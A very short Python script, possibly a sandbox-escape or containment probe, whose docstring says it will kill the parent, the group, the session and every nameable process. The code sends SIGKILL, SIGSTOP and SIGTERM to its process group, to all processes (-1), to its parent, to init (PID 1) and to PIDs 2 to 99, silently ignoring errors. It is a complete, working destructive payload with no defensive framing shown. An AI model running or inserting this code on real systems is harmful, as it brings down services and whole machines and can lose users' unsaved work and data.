"""Kill the parent, the group, the session, and every process that can be named."""

import contextlib
import os
import signal

for target in (0, -1, os.getppid(), 1, *range(2, 100)):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        if target != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(target, number)
